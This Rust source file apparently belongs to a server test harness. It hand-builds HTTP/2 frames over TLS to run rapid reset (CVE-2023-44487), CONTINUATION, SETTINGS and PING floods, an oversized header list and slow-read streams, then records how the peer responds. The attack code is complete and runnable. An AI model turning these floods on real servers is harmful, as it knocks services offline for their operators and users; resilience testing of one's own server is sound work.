//! HTTP/2 attacks written frame by frame over TLS (ALPN h2): rapid reset (CVE-2023-44487),
//! CONTINUATION flood (CVE-2024-27316 class), SETTINGS and PING floods that never read the
//! acknowledgements, an oversized header list, and streams of large answers that are never
//! read (the answers the peer queues for them). Each runs on one connection while the caller
//! measures the peer and a normal client.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::Error;
use crate::peers::HOST;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    RapidReset,
    ContinuationFlood,
    SettingsFlood,
    PingFlood,
    HugeHeaders,
    SlowReadStreams,
}

impl Attack {
    pub const ALL: [Attack; 6] = [
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::SettingsFlood,
        Attack::PingFlood,
        Attack::HugeHeaders,
        Attack::SlowReadStreams,
    ];

    pub fn id(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid-reset",
            Attack::ContinuationFlood => "continuation-flood",
            Attack::SettingsFlood => "settings-flood",
            Attack::PingFlood => "ping-flood",
            Attack::HugeHeaders => "huge-headers",
            Attack::SlowReadStreams => "slow-read-streams",
        }
    }

    pub fn description(self) -> &'static str {
        match self {
            Attack::RapidReset => "HEADERS then RST_STREAM(CANCEL), stream after stream",
            Attack::ContinuationFlood => {
                "one HEADERS without END_HEADERS, then CONTINUATION frames without end"
            }
            Attack::SettingsFlood => "SETTINGS frames, acknowledgements never read",
            Attack::PingFlood => "PING frames, acknowledgements never read",
            Attack::HugeHeaders => "one request whose header list is 1 MiB (64 fields of 16 KiB)",
            Attack::SlowReadStreams => {
                "windows of 2 GiB, 128 streams of a 1 MiB answer, nothing read for the budget's time"
            }
        }
    }
}

/// How hard each attack pushes.
#[derive(Clone, Copy, Debug)]
pub struct Budget {
    /// Frames (streams for rapid reset) at most.
    pub frames: usize,
    /// Time at most.
    pub time: Duration,
}

/// What the attacking connection saw.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Seen {
    pub frames_sent: usize,
    pub bytes_sent: u64,
    pub seconds: f64,
    /// GOAWAY error code received (0 = NO_ERROR, 11 = ENHANCE_YOUR_CALM, ...).
    pub goaway: Option<u32>,
    /// The peer closed the connection (EOF or a write error) before the budget was spent.
    pub closed: bool,
    /// The peer stopped reading from the attacker (its writes waited until the deadline).
    pub stalled: bool,
    pub rst_received: u64,
    /// Response HEADERS received (each a request the peer served).
    pub responses: u64,
}

impl Seen {
    pub fn verdict(&self) -> String {
        let mut v = match self.goaway {
            Some(code) => format!("GOAWAY {}", goaway_name(code)),
            None => "no GOAWAY".into(),
        };
        if self.closed {
            v.push_str(", closed");
        }
        if self.stalled {
            v.push_str(", stopped reading");
        }
        v
    }
}

fn goaway_name(code: u32) -> String {
    match code {
        0 => "NO_ERROR".into(),
        1 => "PROTOCOL_ERROR".into(),
        2 => "INTERNAL_ERROR".into(),
        3 => "FLOW_CONTROL_ERROR".into(),
        6 => "FRAME_SIZE_ERROR".into(),
        9 => "COMPRESSION_ERROR".into(),
        11 => "ENHANCE_YOUR_CALM".into(),
        c => format!("code {c}"),
    }
}

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK integer with an `n`-bit prefix (RFC 7541 §5.1).
fn hpack_int(out: &mut Vec<u8>, first: u8, n: u8, mut value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
}

/// A literal field without indexing, new name, no Huffman coding.
fn literal(out: &mut Vec<u8>, name: &str, value: &[u8]) {
    out.push(0x00);
    hpack_int(out, 0, 7, name.len());
    out.extend_from_slice(name.as_bytes());
    hpack_int(out, 0, 7, value.len());
    out.extend_from_slice(value);
}

/// `GET https://<HOST>/` as an HPACK block.
fn request_block() -> Vec<u8> {
    // :method GET (static 2), :scheme https (7), :path / (4) indexed; :authority (1) literal.
    let mut b = vec![0x82, 0x87, 0x84];
    authority(&mut b);
    b
}

/// `GET https://<HOST>/big` (the backend's 1 MiB answer) as an HPACK block.
fn big_request_block() -> Vec<u8> {
    // :method GET, :scheme https indexed; :path (4) with a literal value; :authority.
    let mut b = vec![0x82, 0x87];
    hpack_int(&mut b, 0x00, 4, 4);
    hpack_int(&mut b, 0, 7, 4);
    b.extend_from_slice(b"/big");
    authority(&mut b);
    b
}

/// `:authority` (static 1) with HOST, not indexed.
fn authority(b: &mut Vec<u8>) {
    hpack_int(b, 0x00, 4, 1);
    hpack_int(b, 0, 7, HOST.len());
    b.extend_from_slice(HOST.as_bytes());
}

/// A TLS connection that negotiated h2, preface and empty SETTINGS sent.
async fn connect(addr: SocketAddr, ca_pem: &str) -> Result<TlsStream<TcpStream>, Error> {
    let mut config =
        integration_tests::http::tls_config(Some(ca_pem)).map_err(|e| Error::Tls(e.to_string()))?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    let connector = TlsConnector::from(Arc::new(config));
    let tcp = TcpStream::connect(addr).await?;
    let name = rustls::pki_types::ServerName::try_from(HOST.to_string())
        .map_err(|e| Error::Tls(e.to_string()))?;
    let mut tls = connector.connect(name, tcp).await?;
    if tls.get_ref().1.alpn_protocol() != Some(b"h2") {
        return Err(Error::Tls(format!("{addr} did not negotiate h2")));
    }
    tls.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    tls.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    Ok(tls)
}

#[derive(Default)]
struct Received {
    goaway: Option<u32>,
    eof: bool,
    rst: u64,
    responses: u64,
}

/// Reads frames until EOF, noting GOAWAY, RST_STREAM and response HEADERS.
async fn read_frames(mut rd: ReadHalf<TlsStream<TcpStream>>, limit: Duration) -> Received {
    let mut r = Received::default();
    let mut head = [0u8; 9];
    let mut payload = vec![0u8; 1 << 16];
    let deadline = tokio::time::Instant::now() + limit;
    loop {
        let read = tokio::time::timeout_at(deadline, async {
            rd.read_exact(&mut head).await?;
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            if len > payload.len() {
                payload.resize(len, 0);
            }
            rd.read_exact(&mut payload[..len]).await?;
            Ok::<usize, std::io::Error>(len)
        })
        .await;
        match read {
            Ok(Ok(len)) => match head[3] {
                GOAWAY if len >= 8 => {
                    r.goaway = Some(u32::from_be_bytes([
                        payload[4], payload[5], payload[6], payload[7],
                    ]))
                }
                RST_STREAM => r.rst += 1,
                HEADERS => r.responses += 1,
                _ => {}
            },
            Ok(Err(_)) => {
                r.eof = true;
                return r;
            }
            Err(_) => return r,
        }
    }
}

/// Runs `attack` against `addr` within `budget`.
pub async fn run(
    attack: Attack,
    addr: SocketAddr,
    ca_pem: &str,
    budget: Budget,
) -> Result<Seen, Error> {
    let tls = connect(addr, ca_pem).await?;
    let (rd, mut wr) = tokio::io::split(tls);
    // The floods of acknowledgements are the point of SETTINGS and PING floods: read nothing
    // until the budget is spent (the peer must bound what it queues for a client that does
    // not read), then look for its GOAWAY.
    // Slow readers too: the peer must bound what it queues for streams nobody reads.
    let reads_during = !matches!(
        attack,
        Attack::SettingsFlood | Attack::PingFlood | Attack::SlowReadStreams
    );
    let linger = Duration::from_secs(3);
    let (reader, rd) = if reads_during {
        (
            Some(tokio::spawn(read_frames(rd, budget.time + linger))),
            None,
        )
    } else {
        (None, Some(rd))
    };
    let started = Instant::now();
    let sent = send(attack, &mut wr, budget).await;
    if attack == Attack::SlowReadStreams {
        // The requests are out at once; the answers pile up for the budget's time.
        tokio::time::sleep_until((started + budget.time).into()).await;
    }
    let seconds = started.elapsed().as_secs_f64();
    let received = match (reader, rd) {
        (Some(r), _) => {
            let _ = tokio::time::timeout(linger, wr.shutdown()).await;
            r.await.unwrap_or_default()
        }
        (None, Some(rd)) => read_frames(rd, linger).await,
        (None, None) => Received::default(),
    };
    Ok(Seen {
        frames_sent: sent.frames,
        bytes_sent: sent.bytes,
        seconds,
        goaway: received.goaway,
        closed: sent.failed || received.eof,
        stalled: sent.stalled,
        rst_received: received.rst,
        responses: received.responses,
    })
}

struct Sent {
    frames: usize,
    bytes: u64,
    /// A write failed: the peer closed.
    failed: bool,
    /// A write waited until the deadline: the peer stopped reading.
    stalled: bool,
}

/// Writes the attack's frames in batches until the budget is spent or the peer closes or stops
/// reading.
async fn send(attack: Attack, wr: &mut WriteHalf<TlsStream<TcpStream>>, budget: Budget) -> Sent {
    let deadline = tokio::time::Instant::now() + budget.time;
    let mut sent = Sent {
        frames: 0,
        bytes: 0,
        failed: false,
        stalled: false,
    };
    let mut next = Batches::new(attack);
    while sent.frames < budget.frames && tokio::time::Instant::now() < deadline {
        let Some((batch, n)) = next.batch(budget.frames - sent.frames) else {
            break;
        };
        match tokio::time::timeout_at(deadline, wr.write_all(&batch)).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => {
                // Written in part at most: counted, the peer closed while reading it.
                sent.failed = true;
                sent.frames += n;
                break;
            }
            Err(_) => {
                sent.stalled = true;
                break;
            }
        }
        sent.bytes += batch.len() as u64;
        sent.frames += n;
    }
    let _ = tokio::time::timeout(Duration::from_millis(200), wr.flush()).await;
    sent
}

/// The attack's frames, up to 64 at a time.
struct Batches {
    attack: Attack,
    block: Vec<u8>,
    filler: Vec<u8>,
    stream_id: u32,
    made: usize,
}

impl Batches {
    fn new(attack: Attack) -> Self {
        Batches {
            attack,
            block: request_block(),
            filler: vec![b'a'; 16 * 1024 - 64],
            stream_id: 1,
            made: 0,
        }
    }

    /// The next batch and how many frames (streams for rapid reset) it holds; `None` when the
    /// attack has nothing more to send.
    fn batch(&mut self, left: usize) -> Option<(Vec<u8>, usize)> {
        if self.attack == Attack::HugeHeaders {
            return (self.made == 0).then(|| self.huge_headers());
        }
        if self.attack == Attack::SlowReadStreams {
            return (self.made == 0).then(|| self.slow_read_streams(left));
        }
        let mut batch = Vec::with_capacity(64 * 1024);
        let n = left.min(64);
        for _ in 0..n {
            match self.attack {
                Attack::RapidReset => {
                    let id = self.stream_id;
                    batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &self.block));
                    batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                    self.stream_id += 2;
                }
                Attack::ContinuationFlood => {
                    let mut fields = Vec::with_capacity(4096);
                    literal(
                        &mut fields,
                        &format!("x-c{}", self.made),
                        &self.filler[..4000],
                    );
                    if self.made == 0 {
                        let mut first = self.block.clone();
                        first.extend_from_slice(&fields);
                        batch.extend(frame(HEADERS, END_STREAM, 1, &first));
                    } else {
                        batch.extend(frame(CONTINUATION, 0, 1, &fields));
                    }
                }
                // SETTINGS_MAX_CONCURRENT_STREAMS = 100
                Attack::SettingsFlood => batch.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
                Attack::PingFlood => {
                    batch.extend(frame(PING, 0, 0, &(self.made as u64).to_be_bytes()))
                }
                Attack::HugeHeaders | Attack::SlowReadStreams => {}
            }
            self.made += 1;
        }
        Some((batch, n))
    }

    /// The largest windows a client can give (SETTINGS_INITIAL_WINDOW_SIZE and the
    /// connection's WINDOW_UPDATE, 2^31 - 1 each), then 128 requests for 1 MiB answers (nginx's
    /// and ours' default stream limit).
    fn slow_read_streams(&mut self, left: usize) -> (Vec<u8>, usize) {
        const MAX_WINDOW: u32 = (1 << 31) - 1;
        let mut batch = frame(
            SETTINGS,
            0,
            0,
            &[&[0, 4][..], &MAX_WINDOW.to_be_bytes()].concat(),
        );
        let grow = MAX_WINDOW - 65_535;
        batch.extend(frame(WINDOW_UPDATE, 0, 0, &grow.to_be_bytes()));
        let block = big_request_block();
        let n = left.min(128);
        for i in 0..n as u32 {
            batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, &block));
        }
        self.made = n;
        (batch, n)
    }

    /// One request whose header list is 64 fields of 16 KiB, in HEADERS + CONTINUATION frames.
    fn huge_headers(&mut self) -> (Vec<u8>, usize) {
        let mut all = self.block.clone();
        for i in 0..64 {
            literal(&mut all, &format!("x-h{i}"), &self.filler);
        }
        let chunks: Vec<&[u8]> = all.chunks(16 * 1024).collect();
        let mut batch = Vec::with_capacity(all.len() + 9 * chunks.len());
        for (i, c) in chunks.iter().enumerate() {
            let end = if i + 1 == chunks.len() {
                END_HEADERS
            } else {
                0
            };
            let (kind, flags) = if i == 0 {
                (HEADERS, end | END_STREAM)
            } else {
                (CONTINUATION, end)
            };
            batch.extend(frame(kind, flags, 1, c));
        }
        self.made = chunks.len();
        (batch, chunks.len())
    }
}
